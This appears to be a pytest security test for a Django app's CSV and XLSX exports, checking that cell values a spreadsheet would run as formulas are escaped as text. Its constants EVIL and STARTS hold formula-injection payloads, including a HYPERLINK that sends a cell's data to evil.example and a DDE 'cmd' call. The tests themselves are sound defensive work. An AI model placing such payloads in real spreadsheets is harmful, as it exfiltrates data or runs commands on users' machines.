"""Issue 21, finding 6: text that a spreadsheet would run as a formula is neutralised in every
export (CSV from Python or from PostgreSQL's COPY, XLSX); numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.exports.base import Column, ExportParams, ExportSpec
from common.exports.writers import csv_stream, xlsx_file
from tests.partners.factories import ConventionFactory, OrganisationFactory
from tests.personas import World
from tests.reporting.exports.helpers import export, read_csv

pytestmark = [pytest.mark.django_db, pytest.mark.security]

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Ouvrir")'
# Every character a spreadsheet takes as the start of a formula.
STARTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_an_organisation_named_like_a_formula_is_text_in_the_csv(world: World) -> None:
    ConventionFactory(site=world.site_a, partner=OrganisationFactory(name=EVIL))
    [row] = read_csv(export(world.client("analyst"), name="conventions"))
    assert row["partner_name"] == "'" + EVIL  # shown as typed, never run
    assert row["site_name"] == "Maison A"  # other text untouched


def test_an_organisation_named_like_a_formula_is_a_text_cell_in_the_xlsx(world: World) -> None:
    ConventionFactory(site=world.site_a, partner=OrganisationFactory(name=EVIL))
    body = export(world.client("analyst"), fmt="xlsx", name="conventions")
    sheet = load_workbook(io.BytesIO(body)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("partner_name") + 1)
    assert cell.data_type == "s"  # not "f": Excel shows the text and runs nothing
    assert cell.value == EVIL
    assert b"<f>" not in _sheet_xml(body)


def _sheet_xml(body: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


SPEC = ExportSpec(
    name="essai",
    label="essai",
    columns=(
        Column("label", "libellé"),
        Column("count", "nombre", "integer"),
        Column("amount", "montant", "decimal"),
        Column("day", "jour", "date"),
    ),
)


def _rows() -> list[tuple[object, ...]]:
    return [(text, -5, Decimal("-1.5"), dt.date(2026, 3, 1)) for text in STARTS]


def test_the_csv_writer_neutralises_each_formula_start_and_keeps_negative_numbers() -> None:
    body = b"".join(csv_stream(SPEC, _rows(), ExportParams()))
    assert body.count(b"\n") == 1 + len(STARTS)  # one line each: a bare "\r" would add a row
    assert b'"\'\r=1+1"' in body  # quoted, so that it stays inside its cell
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))[1:]
    assert [row[0] for row in rows] == ["'" + text for text in STARTS]
    assert {(row[1], row[2], row[3]) for row in rows} == {("-5", "-1.5", "2026-03-01")}


def test_the_xlsx_writer_writes_formula_starts_as_text_and_numbers_as_numbers() -> None:
    with xlsx_file(SPEC, _rows(), ExportParams()) as handle:
        sheet = load_workbook(handle).active
        rows = list(sheet.iter_rows(min_row=2))
    # (XML reads a carriage return back as a line feed.)
    expected = [(text.replace("\r", "\n"), "s") for text in STARTS]
    assert [(row[0].value, row[0].data_type) for row in rows] == expected
    assert {(row[1].value, row[1].data_type) for row in rows} == {(-5, "n")}
    assert {(row[2].value, row[2].data_type) for row in rows} == {(-1.5, "n")}
